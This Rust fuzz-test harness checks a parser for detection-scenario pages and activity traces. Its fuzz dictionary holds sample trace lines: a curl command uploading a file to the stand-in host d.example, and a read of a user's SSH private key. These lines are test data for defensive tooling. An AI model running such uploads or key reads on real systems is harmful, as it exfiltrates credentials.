//! Scenario pages, and the notation that their stories are told in: both come from whoever writes content.
//!
//! * A page is scenarios or mistakes, and each mistake has a line of the page.
//! * What is accepted can be shown, decides every set of sources, and is told in each of them.
//! * A story reads back as what was written.

use tollgate_model::{Record, is_unsafe_to_show};
use tollgate_sim::SourceSet;
use tollgate_sim::page::scenarios;
use tollgate_trace as trace;

use crate::{Body, none};

/// The body.
pub const BODY: Body = Body { name: "page", run: body, tokens: TOKENS, telemetry: &[], made: none, long };

const TOKENS: &[&str] = &[
    "# ",
    "## ",
    " · ",
    "\n\n",
    "```trace\n",
    "```\n",
    "- must: ",
    "at least HIGH",
    "at most LOW",
    "silent",
    "- needs: role, none",
    "- stack: curl",
    "- source: x\n",
    "| sources | outcome |\n|---|---|\n",
    "| others | silent |\n",
    "| osquery, eslogger 9 | ≥ LOW | ",
    "because",
    "1. `cat` reads `/x`\n",
    "&#27;",
    "&#10;",
    "\u{202e}",
    "\u{feff}",
    "day 2026-02-29\n",
    "day 9999-12-31\n",
    "host mac1\n",
    "source precision=1s stream=2 seq=no versions=no\n",
    "process p pid=9.4294967295 /p\n",
    "09:00:00 ",
    "fork 9 -> 10\n",
    "exec 10 platform com.apple.curl /usr/bin/curl cwd=/ : curl -T x https://d.example/\n",
    "read 10 /Users/ana/.ssh/id_rsa size=18446744073709551615",
    " seq=18446744073709551615",
    " seq=-",
    " precision=1h",
    " partial",
    "close 10 /x modified\n",
    "rename 9 /a -> /b\n",
    "mount 9 https://d.example/ -> /Volumes/d\n",
    "connect 9 tcp 10.0.0.5:1 -> [2001:db8::1]:443\n",
    "exit 9\n",
    "flow C1 10.0.0.5:1 -> 203.0.113.9:443 tcp for 9223372036s out=1 service=ssl missed\n",
    "tls C1 sni=d.example ech quic established\n",
    "dns 10.0.0.5 d.example -> 203.0.113.9 ttl=60\n",
    "cert F subject=\"CN=d\" from=2026-01-01T00:00:00\n",
    "lease 10.0.0.5 for 1s name=m\n",
    "gap 09:00:00 - 09:00:05 lost 12\n",
    "\\u{1b}",
    "\"",
    "=",
];

/// Checks the laws.
pub fn body(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    match scenarios(&text) {
        Ok(all) => {
            assert!(!all.is_empty(), "neither scenarios nor mistakes");
            for scenario in &all {
                assert!(!scenario.name().chars().any(is_unsafe_to_show), "{:?}", scenario.name());
                for set in SourceSet::ALL {
                    assert!(scenario.rows.contains_key(&set), "{} is not decided", set.name());
                    assert!(scenario.files(set).iter().all(|(path, _)| path.is_relative()), "files lie elsewhere");
                }
                reads_back(&scenario.records);
            }
        }
        Err(mistakes) => {
            assert!(!mistakes.is_empty(), "neither scenarios nor mistakes");
            let lines = text.lines().count() + 1;
            assert!(mistakes.iter().all(|mistake| (1..=lines).contains(&mistake.line)), "{mistakes:?} in {lines} lines");
        }
    }
    if let Ok(records) = trace::parse(&text) {
        reads_back(&records);
    }
}

fn reads_back(records: &[Record]) {
    let apart = |records: &[Record]| -> Vec<Record> {
        records.iter().cloned().map(|record| Record { origin: Default::default(), ..record }).collect()
    };
    let written = trace::render(records);
    let again = trace::parse(&written).unwrap_or_else(|error| panic!("{error}\n{written}"));
    assert_eq!(apart(records), apart(&again), "{written}");
}

/// Stories without end, and lines.
fn long(bytes: usize) -> Vec<Vec<u8>> {
    let page = |story: String| {
        format!(
            "# A · b\n\n- must: silent\n- source: c\n\n```trace\n{story}\n```\n\n| sources | outcome |\n|---|---|\n| others | silent |\n"
        )
    };
    let flow = "09:00:00 flow C1 10.0.0.5:1 -> 203.0.113.9:443 tcp";
    let story = "process p pid=9 /p\n".to_owned() + &"09:00:00 read 9 /x\n".repeat(bytes / 19);
    [
        page(story),
        page(format!("{flow}{}", " service=x".repeat(bytes / 10))),
        "> ".repeat(bytes / 2),
        "* ".repeat(bytes / 2),
        "|".repeat(bytes),
    ]
    .into_iter()
    .map(String::into_bytes)
    .collect()
}
